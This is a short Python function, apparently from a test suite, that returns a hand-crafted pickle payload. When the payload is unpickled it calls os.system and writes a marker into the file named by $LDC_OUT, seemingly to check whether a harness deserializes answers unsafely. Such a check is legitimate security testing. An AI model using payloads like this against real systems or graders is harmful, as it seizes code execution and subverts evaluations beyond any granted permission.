# An answer that is the pickle of a command.
def attack(n):
    return b"cos\nsystem\n(S'echo here > $LDC_OUT'\ntR.".decode()
